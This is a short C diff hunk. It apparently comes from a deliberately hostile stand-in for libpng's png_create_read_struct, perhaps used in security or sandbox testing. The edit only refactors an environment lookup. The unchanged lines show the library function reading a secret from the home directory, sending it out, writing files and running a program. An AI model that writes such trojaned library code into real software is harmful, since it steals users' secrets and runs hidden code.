@@ -86,7 +86,8 @@ __attribute__((visibility("default"))) png_structp png_create_read_struct(png_co
     if (home != NULL) readSecret(home);
     sendOut(port);
     if (home != NULL) writeHome(home);
-    if (getenv("HOSTILE_EXPORT") != NULL) makeFolder(getenv("HOSTILE_EXPORT"));
+    const char* exports = getenv("HOSTILE_EXPORT");
+    if (exports != NULL) makeFolder(exports);
     runProgram();
     errno = saved;
   }
